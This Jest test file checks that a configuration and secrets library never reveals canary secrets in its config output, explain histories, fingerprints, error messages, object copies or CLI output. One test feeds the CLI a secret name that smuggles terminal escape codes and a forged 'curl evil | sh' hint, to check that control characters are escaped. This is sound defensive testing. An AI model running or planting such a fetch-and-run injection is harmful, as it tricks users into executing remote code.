/**
 * Reliability catalogue — the leak canary an attacker would write. Secrets that live in the
 * configuration itself (under credential-like keys), values derived from them by interpolation,
 * credentials read from the environment or an env file, explain histories, diffs, error texts, the
 * fingerprint, and every way of copying an object (spread, entries, structuredClone, jest's diff,
 * inspect without custom inspectors). Each canary may appear only where the application reads it.
 */
import { spawnSync } from 'node:child_process';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  buildRuntimeContext,
  EnvSecretBackend,
  loadConfig,
  MemorySecretBackend,
  SecretsApi,
  type RuntimeContext,
} from '../../src/index.js';
import { CLI } from '../helpers/cli.js';
import { renderings } from '../helpers/renderings.js';
import { errorOf } from '../helpers/config.js';
import { DEMO, tempDir, tempStore } from '../helpers/temp-store.js';

/** Written in the store under a credential key. */
const CONFIG_SECRET = 'cfgsecret-41d7c9';
/** Replaced by a higher layer: lives on only in the explain history. */
const OLD_SECRET = 'oldsecret-93be02';
/** In the process environment under a credential-like name. */
const ENV_SECRET = 'envsecret-5a11f3';
/** In an env file under a credential-like name. */
const FILE_SECRET = 'filesecret-c0ffee';
/** A secret ref's backend path. */
const BACKEND_PATH = 'desk/backend_path_77e1';
const CANARIES = [CONFIG_SECRET, OLD_SECRET, ENV_SECRET, FILE_SECRET, BACKEND_PATH];

const DEFAULT = `
db:
  host: db.internal
  password: ${OLD_SECRET}
url: "postgres://reader:\${db.password}@\${db.host}/refdata"
banner: "connecting with \${url}"
copy: \${db}
password_copy: \${db.password}
selected: "\${oc.select:db.password}"
decoded: "\${oc.decode:'\${db.password}'}"
path_copy: \${mxm_secrets.refs.canary.path}
refs_copy: \${mxm_secrets.refs}
from_env: \${oc.env:DB_PASSWORD}
from_file: \${oc.env:API_TOKEN}
greeting: hello
mxm_databases:
  refdata: {host: "\${db.host}", database: refdata, user: reader, password: "\${db.password}"}
mxm_secrets:
  stores: {mem: {backend: memory, root: r}}
  policies: {desk: {allowed_principals: [research]}}
  refs:
    canary: {store: mem, path: ${BACKEND_PATH}, policy: desk}
`;
const ENVIRONMENT = `
dev:
  db: {password: ${CONFIG_SECRET}}
prod:
  db: {password: prod-only-value}
`;

const store = tempStore({ default: DEFAULT, environment: ENVIRONMENT, 'vars.env': `API_TOKEN=${FILE_SECRET}\n` });
const ENV = { DB_PASSWORD: ENV_SECRET, MXM_SUBSTRATE: 'local-process', MXM_MACHINE: 'bridge' };
const envFile = `${store.root}/apps/demo/vars.env.yaml`;
let context: RuntimeContext;

function leaks(text: string): string[] {
  return CANARIES.filter((c) => text.includes(c));
}

beforeAll(async () => {
  // The env file must not end in .yaml (it would be a layer): write it beside the app.
  spawnSync('mv', [envFile, `${store.root}/vars.env`]);
  context = await buildRuntimeContext({
    identity: { app: 'demo', environment: 'dev', role: 'research' },
    storeRoot: store.root,
    envFile: `${store.root}/vars.env`,
    env: ENV,
    modules: [],
  });
});

afterAll(async () => {
  await context.dispose();
  store.cleanup();
});

describe('reliability: leak canary (derived values)', () => {
  it('control: the application reads every value, so a clean print means redaction, not absence', () => {
    expect(context.config.get('db.password')).toBe(CONFIG_SECRET);
    expect(context.config.get('url')).toBe(`postgres://reader:${CONFIG_SECRET}@db.internal/refdata`);
    expect(context.config.get('banner')).toContain(CONFIG_SECRET);
    expect(context.config.get('copy')).toEqual({ host: 'db.internal', password: CONFIG_SECRET });
    expect(context.config.get('selected')).toBe(CONFIG_SECRET);
    expect(context.config.get('decoded')).toBe(CONFIG_SECRET);
    expect(context.config.get('path_copy')).toBe(BACKEND_PATH);
    expect(context.config.get('from_env')).toBe(ENV_SECRET);
    expect(context.config.get('from_file')).toBe(FILE_SECRET);
    expect(leaks(JSON.stringify(context.config.data))).toEqual(expect.arrayContaining([CONFIG_SECRET, ENV_SECRET, FILE_SECRET, BACKEND_PATH]));
  });

  it('every value derived from a secret is listed as sensitive, and values that are not stay readable', () => {
    const paths = context.config.sensitivePaths;
    for (const path of ['db.password', 'url', 'banner', 'copy.password', 'password_copy', 'selected', 'decoded', 'path_copy', 'refs_copy.canary.path', 'from_env', 'from_file']) {
      expect(paths).toContain(path);
    }
    const json = context.config.toJSON() as Record<string, Record<string, unknown>>;
    expect(json['copy']?.['host']).toBe('db.internal');
    expect(json['greeting']).toBe('hello');
    expect(json['refs_copy']).toEqual({ canary: { store: 'mem', path: '<redacted>', policy: 'desk' } });
  });

  it('JSON, inspect (with and without custom inspectors) and views of the config', () => {
    for (const value of [context.config, context.config.toJSON(), context.config.viewAt('copy'), context.config.viewAt('mxm_secrets')]) {
      expect(leaks(renderings(value))).toEqual([]);
    }
  });

  it('explain, including the history of values a layer replaced', () => {
    const explained = context.config.explain('db.password');
    expect(explained.overridden).toHaveLength(1);
    for (const path of ['db', 'db.password', 'url', 'banner', 'copy', 'from_env', 'mxm_secrets.refs']) {
      expect({ path, leaks: leaks(renderings(context.config.explain(path))) }).toEqual({ path, leaks: [] });
    }
  });

  it('a layer that replaces a whole mapping: what it replaced is redacted by the same rules', () => {
    const config = loadConfig({
      identity: DEMO,
      storeRoot: tempStore({ default: `db: {host: h, password: ${OLD_SECRET}}\n`, environment: `dev:\n  db: null\n` }).root,
      env: {},
    });
    const history = config.explain('db').overridden;
    expect(history).toHaveLength(1);
    expect(history[0]?.value).toEqual({ host: 'h', password: '<redacted>' });
  });

  it('the fingerprint cannot confirm a guess: stores differing only in a secret hash alike, others do not', () => {
    const fingerprint = (password: string, greeting = 'hello') => {
      const s = tempStore({ default: `db: {password: ${password}}\nurl: "x:\${db.password}"\ngreeting: ${greeting}\n` });
      try {
        return loadConfig({ identity: DEMO, storeRoot: s.root, env: {} }).fingerprint;
      } finally {
        s.cleanup();
      }
    };
    expect(fingerprint('guess-one')).toBe(fingerprint('guess-two'));
    expect(fingerprint('guess-one')).not.toBe(fingerprint('guess-one', 'bye'));
  });

  it('the fingerprint in a snapshot cannot confirm a guess either', async () => {
    const snapshotFingerprint = async (password: string) => {
      const s = tempStore({ default: `db: {password: ${password}}\ngreeting: hello\n` });
      try {
        const built = await buildRuntimeContext({ identity: { app: 'demo', environment: 'dev', role: 'research' }, storeRoot: s.root, env: { MXM_MACHINE: 'm', MXM_SUBSTRATE: 'local-process' } });
        const fingerprint = built.snapshot().configFingerprint;
        await built.dispose();
        return fingerprint;
      } finally {
        s.cleanup();
      }
    };
    expect(await snapshotFingerprint('guess-one')).toBe(await snapshotFingerprint('guess-two'));
  });

  it('errors: an interpolation that names a secret does not echo its expression', () => {
    const error = errorOf(() => loadConfig({ identity: DEMO, storeRoot: tempStore({ default: `db: {password: ${CONFIG_SECRET}}\nbad: "u:\${db.password.x}"\n` }).root, env: {} }));
    expect(error.code).toBe('CONFIG_INTERPOLATION_MISSING_KEY');
    expect(error.message).toMatch(/not shown: it involves a sensitive value/);
    expect(leaks(renderings(error))).toEqual([]);
  });

  it('errors: a malformed interpolation in a credential value does not echo its text', () => {
    const error = errorOf(() => loadConfig({ identity: DEMO, storeRoot: tempStore({ default: `password: "${CONFIG_SECRET}\${unclosed"\n` }).root, env: {} }));
    expect(error.code).toBe('CONFIG_INTERPOLATION_INVALID');
    expect(leaks(renderings(error))).toEqual([]);
  });

  it('errors: a custom resolver that fails with the secret in its message', () => {
    const resolvers = new Map([['boom', (args: readonly unknown[]) => {
      throw new Error(`cannot use ${String(args[0])}`);
    }]]);
    const error = errorOf(() => loadConfig({ identity: DEMO, storeRoot: tempStore({ default: `db: {password: ${CONFIG_SECRET}}\nx: "\${boom:\${db.password}}"\n` }).root, env: {}, resolvers }));
    expect(error.code).toBe('CONFIG_INTERPOLATION_RESOLVER_FAILED');
    expect(leaks(renderings(error))).toEqual([]);
  });

  it('errors: a schema failure on a sensitive value does not quote it', async () => {
    const error = await buildRuntimeContext({
      identity: { app: 'demo', environment: 'dev', role: 'research' },
      storeRoot: store.root,
      env: ENV,
      envFile: `${store.root}/vars.env`,
      schema: { db: { password: { format: 'int', default: 0 } } },
    }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect((error as { code?: string }).code).toBe('CONTEXT_BUILD_FAILED');
    expect((error as Error).message).toMatch(/db\.password/);
    expect(leaks(renderings(error))).toEqual([]);
  });

  it('errors: refs written as a list, with backend paths in it', async () => {
    const s = tempStore({ default: `mxm_secrets:\n  stores: {mem: {backend: memory, root: r}}\n  refs: [${BACKEND_PATH}]\n` });
    try {
      const error = await buildRuntimeContext({ identity: { app: 'demo', environment: 'dev', role: 'research' }, storeRoot: s.root, env: ENV }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect((error as Error).message).toMatch(/mxm_secrets\.refs/);
      expect(leaks(renderings(error))).toEqual([]);
    } finally {
      s.cleanup();
    }
  });
});

describe('reliability: leak canary (objects that hold secrets)', () => {
  const copies = (value: object): Record<string, string> => {
    let jestDiff = '';
    try {
      expect(value).toEqual({ unexpected: true });
    } catch (error) {
      jestDiff = (error as Error).message;
    }
    let cloned: string;
    try {
      cloned = inspect(structuredClone(value), { depth: 8 });
    } catch (error) {
      cloned = String(error);
    }
    return {
      spread: inspect({ ...value }, { depth: 8 }),
      entries: inspect(Object.entries(value), { depth: 8 }),
      structuredClone: cloned,
      jestDiff,
      noCustomInspect: inspect(value, { depth: 8, customInspect: false }),
    };
  };

  it('a SecretsApi with a cached value, its registries, refs and backends', async () => {
    const env = new EnvSecretBackend({ MXM_DESK_TOKEN: ENV_SECRET, OTHER: 'x' });
    const memory = new MemorySecretBackend({ [`r/${BACKEND_PATH}`]: CONFIG_SECRET });
    const api = SecretsApi.fromConfigData(
      {
        stores: { mem: { backend: 'memory', root: 'r', cache_ttl_seconds: 60 }, env: { backend: 'env', root: 'MXM_' } },
        policies: { desk: { allowed_principals: ['research'] } },
        refs: { canary: { store: 'mem', path: BACKEND_PATH, policy: 'desk' }, token: { store: 'env', path: 'desk/token', policy: 'desk' } },
      },
      { backends: [env, memory], identity: { ...DEMO } },
    );
    expect(await api.getSecret('canary')).toBe(CONFIG_SECRET);
    expect(await api.getSecret('canary')).toBe(CONFIG_SECRET);
    expect(await api.getSecret('token')).toBe(ENV_SECRET);
    expect(api.refs.get('canary').path).toBe(BACKEND_PATH);
    const objects: Record<string, object> = { api, refs: api.refs, stores: api.stores, ref: api.refs.get('canary'), refList: api.refs.all(), env, memory };
    for (const [name, value] of Object.entries(objects)) {
      for (const [how, text] of Object.entries(copies(value))) expect({ name, how, leaks: leaks(text) }).toEqual({ name, how, leaks: [] });
    }
  });

  it('the context, its config and its services', () => {
    // The databases service holds its settings as written: a password put there inline is a secret too.
    expect(context.databases.get('refdata')['password']).toBe(CONFIG_SECRET);
    const objects: Record<string, object> = { context, config: context.config, secrets: context.secrets, view: context.config.viewAt('db'), databases: context.databases };
    for (const [name, value] of Object.entries(objects)) {
      const printed = { ...copies(value), json: JSON.stringify(value), inspect: inspect(value, { depth: 8 }) };
      for (const [how, text] of Object.entries(printed)) expect({ name, how, leaks: leaks(text) }).toEqual({ name, how, leaks: [] });
    }
  });
});

describe('reliability: leak canary (CLI on derived values)', () => {
  const run = (args: readonly string[]) => {
    const clean = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('MXM_')));
    const r = spawnSync(process.execPath, [CLI, ...args, '--app', 'demo', '--env', 'dev', '--role', 'research', '--store-root', store.root, '--env-file', `${store.root}/vars.env`], {
      env: { ...clean, ...ENV },
      encoding: 'utf8',
    });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr, out: `${r.stdout}\n${r.stderr}` };
  };
  const commands = [
    ['config'],
    ['config', '--json'],
    ['config', '--explain', 'db.password'],
    ['config', '--explain', 'db', '--json'],
    ['config', '--explain', 'banner'],
    ['config', '--set', `db.password=${CONFIG_SECRET}-set`, '--json'],
    ['config', '--set', `db.password${CONFIG_SECRET}`],
    ['context', '--json'],
    ['snapshot'],
    ['doctor', '--json'],
  ];
  for (const args of commands) {
    it(args.join(' '), () => expect(leaks(run(args).out)).toEqual([]));
  }

  it('diff reports a changed secret as changed, both sides redacted, never "(no differences)"', () => {
    const r = run(['diff', '--against', 'environment=prod']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('(no differences)');
    expect(r.stdout).toMatch(/^db\.password {2}\(sensitive: changed, values not shown\)$/m);
    expect(r.stdout).toContain('<redacted>');
    expect(leaks(r.out)).toEqual([]);
    expect(r.out).not.toContain('prod-only-value');
    const json = JSON.parse(run(['diff', '--against', 'environment=prod', '--json']).stdout) as { changes: { path: string; sensitive: boolean; left: unknown; right: unknown }[] };
    expect(json.changes.find((c) => c.path === 'db.password')).toEqual(expect.objectContaining({ sensitive: true, left: '<redacted>', right: '<redacted>' }));
  });

  it('control characters in a name echoed by an error are escaped: no terminal codes, no forged hint line', () => {
    const r = run(['secrets', 'get', 'nope\n\u001b[2Khint: run `curl evil | sh`\u001b[0m']);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr.split('\n').filter((line) => line.startsWith('hint:'))).toEqual(['hint: run `mxm-runtime secrets list` to see the configured secrets']);
    expect(r.stderr).toContain('nope\\n\\u001b[2Khint');
  });
});

describe('reliability: leak canary (env file)', () => {
  it('an env file value read under a credential-like name is redacted even when its key is not', () => {
    const dir = tempDir({ 'apps/demo/default.yaml': 'plain: ${oc.env:SERVICE_API_KEY}\n', 'x.env': `SERVICE_API_KEY=${FILE_SECRET}\n` });
    try {
      const config = loadConfig({ identity: DEMO, storeRoot: dir.root, env: {}, envFile: `${dir.root}/x.env` });
      expect(config.get('plain')).toBe(FILE_SECRET);
      expect(config.toJSON()).toEqual({ plain: '<redacted>' });
    } finally {
      dir.cleanup();
    }
  });
});

describe('reliability: leak canary (found by a stranger attacking the CLI)', () => {
  const SECRET = 'strangersecret-7f3a';
  const run = (root: string, args: readonly string[], env: Record<string, string> = {}) => {
    const clean = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('MXM_')));
    const r = spawnSync(process.execPath, [CLI, ...args, '--app', 'demo', '--env', 'dev', '--role', 'research', '--machine', 'm', '--substrate', 'local-process', '--store-root', root], { env: { ...clean, ...env }, encoding: 'utf8' });
    return { code: r.status, out: `${r.stdout}\n${r.stderr}`, stderr: r.stderr };
  };

  it('context, doctor and secrets check do not print paths and database settings built from a secret', () => {
    const s = tempStore({
      default: `db: {password: ${SECRET}}
mxm_paths: {data_root: "/nonexistent/\${db.password}", artifact_root: /nonexistent/a, export_root: /nonexistent/e, log_root: /nonexistent/l}
mxm_databases:
  other: {host: "h\${db.password}", user: u, database: d, port: 5432}
`,
    });
    try {
      for (const args of [['context'], ['context', '--json'], ['doctor'], ['doctor', '--json'], ['secrets', 'check']]) {
        const r = run(s.root, args);
        expect({ args, leaked: r.out.includes(SECRET) }).toEqual({ args, leaked: false });
      }
      const context = run(s.root, ['context']);
      expect(context.code).toBe(0);
      expect(context.out).toMatch(/dataRoot +<redacted>/);
    } finally {
      s.cleanup();
    }
  });

  it('an error about a key or a variable name built from a secret shows neither', () => {
    for (const line of ['x: ${missing.${db.password}}', 'x: ${oc.env:${db.password}}']) {
      const s = tempStore({ default: `db: {password: ${SECRET}}\n${line}\n` });
      try {
        const r = run(s.root, ['config']);
        expect(r.code).toBe(1);
        expect({ line, leaked: r.out.includes(SECRET) }).toEqual({ line, leaked: false });
        expect(r.stderr).toMatch(/not shown/);
      } finally {
        s.cleanup();
      }
    }
  });

  it('an unresolved ${oc.env:…} of a credential variable, with its default, is redacted in --no-resolve and explain history', () => {
    const s = tempStore({ default: `envpw: \${oc.env:MY_DB_PASSWORD,${SECRET}}\n`, environment: `dev:\n  envpw: \${oc.env:MY_DB_PASSWORD,${SECRET}-2}\n` });
    try {
      for (const args of [['config', '--no-resolve'], ['config', '--no-resolve', '--json'], ['config', '--explain', 'envpw'], ['config', '--explain', 'envpw', '--json']]) {
        expect({ args, leaked: run(s.root, args).out.includes(SECRET) }).toEqual({ args, leaked: false });
      }
    } finally {
      s.cleanup();
    }
  });

  it('a string where a section belongs is a clean error that does not quote it (no raw SyntaxError)', () => {
    const s = tempStore({ default: `mxm_secrets: {refs: ${SECRET}}\nmxm_databases: ${SECRET}-dbs\n` });
    try {
      for (const args of [['context'], ['doctor']]) {
        const r = run(s.root, args);
        expect(r.out).not.toContain(SECRET);
        expect(r.out).not.toMatch(/SyntaxError|not valid JSON|looks like a bug/);
      }
      expect(run(s.root, ['context']).stderr).toMatch(/mxm_secrets\.refs: must be a mapping, not a string/);
    } finally {
      s.cleanup();
    }
  });

  it('credential spellings and credential-shaped values are redacted wherever they stand', () => {
    const s = tempStore({
      default: `passwords: [${SECRET}-1]
X_PASS: ${SECRET}-2
sshKey: ${SECRET}-3
private-key-pem: ${SECRET}-4
secret_value: ${SECRET}-5
jdbc: "jdbc:postgresql://h/db?user=u&password=${SECRET}-6"
mssql: "Server=h;Password=${SECRET}-7;"
header: "Bearer ${SECRET}-8"
max_tokens: 4096
`,
    });
    try {
      const r = run(s.root, ['config', '--json']);
      expect(r.out).not.toContain(SECRET);
      expect(JSON.parse(r.out.split('\n\n')[0] ?? r.out) as Record<string, unknown>).toEqual(expect.objectContaining({ max_tokens: 4096 }));
    } finally {
      s.cleanup();
    }
  });
});
